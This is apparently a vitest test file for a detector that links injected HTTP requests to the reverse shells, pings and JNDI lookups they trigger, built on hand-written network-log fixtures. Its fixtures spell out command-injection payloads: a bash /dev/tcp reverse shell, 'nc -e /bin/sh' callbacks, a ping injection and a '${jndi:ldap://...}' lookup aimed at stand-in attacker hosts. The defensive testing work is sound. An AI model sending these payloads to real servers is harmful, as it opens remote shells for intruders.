// biome-ignore-all lint/suspicious/noTemplateCurlyInString: look-ups are spelt like that.
import { describe, expect, test } from 'vitest';
import { http } from '../../../../test/build/http-rows.ts';
import { conn, dns, echoes, knownEnds, type LogRow } from '../../../../test/build/rows.ts';
import { describeDetector, findingsOf, readFixture } from '../../../../test/contract/detector.ts';
import { payloadCallback } from './payload-callback.ts';

// The fixtures are written by hand after the story of an attack in the laboratory.
describeDetector(payloadCallback, import.meta.dirname);

const attacker = '198.51.100.66:52110';
const web = '10.0.1.12:3000';
const request = (seconds: number, uri = '/x?c=;bash -i >& /dev/tcp/203.0.113.162/3000 0>&1'): LogRow => http(seconds, attacker, web, uri);
const shell = (seconds: number, port = 53_000): LogRow =>
  conn(seconds, `10.0.1.12:${port}`, '203.0.113.162:3000', 'answered', { duration: 60 });

describe('the fixture', () => {
  const findings = findingsOf(payloadCallback, readFixture(`${import.meta.dirname}/fixtures/fires.ndjson`));
  const about = (address: string): unknown => findings.filter(({ subject }) => subject.address === address);

  test('shows a shell that opened before the request that is logged for it', () => {
    expect(about('10.0.1.12')).toMatchObject([
      {
        severity: 'critical',
        confidence: 0.97,
        title: 'Reverse shell called for by a request',
        peers: [{ address: '203.0.113.162', port: 3000 }, { address: '198.51.100.66' }],
        evidence: { secondsFromFirstAttemptToFirstSession: -88, totalSeconds: 281.74 },
      },
    ]);
  });

  test('shows a refused call, which proves that the payload ran', () => {
    expect(about('10.0.1.13')).toMatchObject([
      { severity: 'high', evidence: { answered: false }, summary: expect.stringContaining('the payload ran') },
    ]);
  });

  test('shows a call by name, and a name that was only looked up', () => {
    expect(about('10.0.1.14')).toMatchObject([
      { severity: 'high', peers: [{ address: '203.0.113.9', port: 80, name: 'files.attacker.example' }, {}] },
    ]);
    expect(about('10.0.1.15')).toMatchObject([{ severity: 'medium', evidence: { named: 'probe.attacker.example' } }]);
  });
});

describe('requests and sessions', () => {
  test('are joined in whatever order their rows come', () => {
    const rows = [request(0), request(5), shell(10), shell(90, 53_001), request(95)];
    const forwards = findingsOf(payloadCallback, rows);
    const backwards = findingsOf(payloadCallback, rows.toReversed());
    const facts = (findings: typeof forwards): unknown =>
      findings.map(({ evidence, ...rest }) => ({ ...rest, records: [...rest.records].sort(), evidence: { ...evidence, payload: '' } }));
    expect(forwards).toMatchObject([{ count: 2, evidence: { attempts: 3, sessions: 2, totalSeconds: 120 } }]);
    expect(facts(backwards)).toEqual(facts(forwards));
  });

  test('are joined within the window only, or while the session is open', () => {
    expect(findingsOf(payloadCallback, [request(0), shell(16 * 60)])).toEqual([]);
    expect(findingsOf(payloadCallback, [request(0), shell(14 * 60)])).toHaveLength(1);
    const long = conn(-3600, '10.0.1.12:53000', '203.0.113.162:3000', 'answered', { duration: 7200 });
    expect(findingsOf(payloadCallback, [request(0), long])).toHaveLength(1);
    expect(
      findingsOf(payloadCallback, [request(0), shell(16 * 60)], [], { tune: { 'D32-payload-callback': { minutes: 20 } } }),
    ).toHaveLength(1);
  });

  test('of two tenants with the same addresses are kept apart', () => {
    const other = { ...shell(10), row: { ...shell(10).row, context: 'other' } };
    expect(findingsOf(payloadCallback, [request(0), other])).toEqual([]);
  });

  test('that went on after idle time are one session, also with the ends swapped', () => {
    const rest = { conn_state: 'OTH', history: 'Dd', duration: 30 };
    const rows = [
      request(0),
      shell(10),
      conn(400, '10.0.1.12:53000', '203.0.113.162:3000', 'answered', rest),
      conn(800, '203.0.113.162:3000', '10.0.1.12:53000', 'answered', rest),
    ];
    expect(findingsOf(payloadCallback, rows)).toMatchObject([{ count: 1, evidence: { sessions: 1, totalSeconds: 120 } }]);
  });

  test('with a partner of long standing weigh little: the attacker may have named it on purpose', () => {
    const rows = [shell(-7200, 40_000), request(0), shell(10)];
    expect(findingsOf(payloadCallback, rows)).toMatchObject([
      { severity: 'medium', confidence: 0.5, evidence: { spokeWithThatEndBefore: true } },
    ]);
  });
});

test('a ping and a look-up that a payload asks for are told', () => {
  const rows = [request(0, '/?ip=;ping -c 3 203.0.113.5'), echoes(2, '10.0.1.12', '203.0.113.5', [3, 3])];
  expect(findingsOf(payloadCallback, rows)).toMatchObject([
    { severity: 'high', title: 'Ping called for by a request', summary: expect.stringContaining('pinged') },
  ]);
  const jndi = [request(0, '/?x=${jndi:ldap://203.0.113.9/a}'), conn(1, '10.0.1.12:50000', '203.0.113.9:389', 'refused')];
  expect(findingsOf(payloadCallback, jndi)).toMatchObject([{ severity: 'high', confidence: 0.9 }]);
  const asked = [
    request(0, '/?x=${jndi:ldap://a.example/a}'),
    dns(1, '10.0.1.12', 'a.example', [['203.0.113.9', 60]]),
    conn(2, '10.0.1.12:50000', '203.0.113.9:389', 'answered'),
  ];
  expect(findingsOf(payloadCallback, asked)).toMatchObject([{ severity: 'high', peers: [{ name: 'a.example' }, {}] }]);
});

test('ends and attackers that the operator knows are set aside, with the label', () => {
  const known = knownEnds('pentest', '198.51.100.66/32');
  expect(findingsOf(payloadCallback, [request(0), shell(5)], [], { known })).toMatchObject([
    { severity: 'info', summary: expect.stringContaining('pentest') },
  ]);
});

test('about somebody else’s machine nothing is high', () => {
  const rows = [
    http(0, attacker, '203.0.113.80:80', '/x?c=;nc -e /bin/sh 203.0.113.162 3000'),
    conn(5, '203.0.113.80:5000', '203.0.113.162:3000', 'answered'),
  ];
  expect(findingsOf(payloadCallback, rows)).toMatchObject([{ severity: 'medium', subject: { address: '203.0.113.80' } }]);
});

test('ends beyond the bound are counted, not followed', () => {
  const rows = [
    ...Array.from({ length: 100 }, (_, i) => request(i, `/?c=;nc -e /bin/sh 203.0.113.162 ${4000 + i}`)),
    conn(200, '10.0.1.12:5000', '203.0.113.162:4001', 'answered'),
  ];
  expect(findingsOf(payloadCallback, rows)).toMatchObject([{ evidence: { endsNotFollowed: 36 } }]);
});
